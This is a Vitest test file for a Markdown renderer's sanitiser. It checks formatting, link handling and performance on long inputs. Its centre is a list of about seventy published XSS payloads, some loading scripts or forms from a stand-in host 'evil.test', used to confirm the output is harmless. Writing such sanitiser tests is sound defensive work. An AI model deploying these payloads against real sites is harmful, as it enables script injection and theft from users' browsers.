// @vitest-environment jsdom
import { describe, expect, it, test } from "vitest";
import { markdownToText, renderMarkdown } from "@/lib/shared/texts/render-markdown";

describe("renderMarkdown", () => {
  it("renders paragraphs, emphasis and lists", () => {
    expect(renderMarkdown("Two **weeks** in *May*.\n\n- bed\n- studio")).toBe(
      '<p dir="auto">Two <strong>weeks</strong> in <em>May</em>.</p>\n<ul>\n<li dir="auto">bed</li>\n<li dir="auto">studio</li>\n</ul>',
    );
  });

  it("shifts headings below those of the page", () => {
    expect(renderMarkdown("# One\n\n## Two\n\n###### Six").match(/<h\d/g)).toEqual([
      "<h3",
      "<h4",
      "<h6",
    ]);
    expect(renderMarkdown("<h1>Raw</h1>")).toBe("Raw");
  });

  it("adds nofollow to links", () => {
    expect(renderMarkdown("[Apply](https://example.org/?a=1&b=2)")).toBe(
      '<p dir="auto"><a href="https://example.org/?a=1&amp;b=2" rel="nofollow ugc noopener">Apply</a></p>',
    );
    expect(renderMarkdown("<a href='https://x.test' target=_blank rel=follow>x</a>")).toBe(
      '<p dir="auto"><a href="https://x.test" rel="nofollow ugc noopener">x</a></p>',
    );
    expect(renderMarkdown("mail@example.org")).toContain('href="mailto:mail@example.org"');
  });

  it("renders tables", () => {
    const html = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |");
    expect(html).toContain('<td dir="auto">2</td>');
  });

  it("replaces images by their alternative text", () => {
    expect(renderMarkdown("![The <b>studio</b>](https://tracker.test/a.gif)")).toBe(
      '<p dir="auto">The studio</p>',
    );
  });

  it("keeps the start of a numbered list", () => {
    expect(renderMarkdown("3. three")).toContain('<ol start="3">');
  });
});

/** Published XSS payloads, in Markdown and HTML. */
const attacks = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img/src='x'/onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.test/x.swf>",
  "<form action=//evil.test><input name=a><button>x</button></form>",
  "<base href=//evil.test/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<style>@import '//evil.test/x.css'</style>",
  "<p style='background:url(//evil.test/x)'>x</p>",
  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=//evil.test/x></audio>",
  "<body onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
  "<a href='javascript&colon;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.test'>x</a>",
  "<a href='\\\\evil.test'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='blob:https://x.test/1'>x</a>",
  "<a name=getElementById id=attributes class=x>x</a>",
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](https://x.test 'a\" onmouseover=\"alert(1)')",
  '[x](https://x.test"onmouseover="alert(1))',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://x.test/a.png)',
  "![<script>alert(1)</script>](https://x.test/a.png)",
  "`<script>alert(1)</script>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '``` "><script>alert(1)</script>\nx\n```',
  "# <img src=x onerror=alert(1)>",
  "- <svg/onload=alert(1)>",
  "> <script>alert(1)</script>",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><script>alert(1)</script></template>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<p dir='\"><script>alert(1)</script>'>x</p>",
  "<ol start='\"><script>alert(1)</script>'><li>x</ol>",
];

/** Attributes besides `dir`. */
const allowedAttributes: Record<string, readonly string[]> = { a: ["href", "rel"], ol: ["start"] };

test.each(attacks)("renderMarkdown: %s is harmless", (attack) => {
  const document = new DOMParser().parseFromString(renderMarkdown(attack), "text/html");
  for (const element of document.body.querySelectorAll("*")) {
    const tag = element.localName;
    expect(tag).toMatch(
      /^(?:p|h[3-6]|ul|ol|li|a|strong|em|del|code|pre|br|hr|blockquote|table|thead|tbody|tr|th|td)$/,
    );
    const names = element.getAttributeNames();
    expect(
      names.filter((name) => !["dir", ...(allowedAttributes[tag] ?? [])].includes(name)),
    ).toEqual([]);
    const href = element.getAttribute("href");
    if (href !== null) {
      expect(new URL(href, "https://here.test").protocol).toMatch(/^(?:https?|mailto):$/);
      expect(new URL(href, "https://here.test").host).not.toBe("evil.test");
    }
  }
  expect(document.head.childElementCount).toBe(0);
});

const patterns = [
  "> ",
  ">",
  "<p>",
  "<b><p>",
  "- ",
  "*",
  "[",
  "![",
  "| a ",
  "a_",
  "<",
  "&",
  "\\",
  "#",
  "1. ",
];
test.each(patterns)("renderMarkdown: 20,000 characters of %j are rendered in time", (pattern) => {
  expect(renderMarkdown(`${pattern.repeat(20_000 / pattern.length)} end`)).toContain("end");
});

test("renderMarkdown: emphasis beyond 1,000 marks stays literal, as parsing it took seconds", () => {
  const html = renderMarkdown(`${"*a* ".repeat(3_000)}\\*b\\*`);
  expect(html.match(/<em>/g)).toHaveLength(500);
  expect(html.match(/ \*a\*/g)).toHaveLength(2_500);
  expect(html).toContain("*a* *b*");
});

test("renderMarkdown: caches the result", () => {
  const text = `${"a_".repeat(4_000)} once`;
  const measureMs = () => {
    const startedAt = performance.now();
    renderMarkdown(text);
    return performance.now() - startedAt;
  };
  const first = measureMs();
  expect(Math.min(measureMs(), measureMs(), measureMs())).toBeLessThan(first / 10);
});

test("markdownToText: plain text on one line", () => {
  expect(markdownToText("# Stay\n\n**Two** weeks & [more](https://x.test) <b>now</b>")).toBe(
    "Stay Two weeks & more now",
  );
});
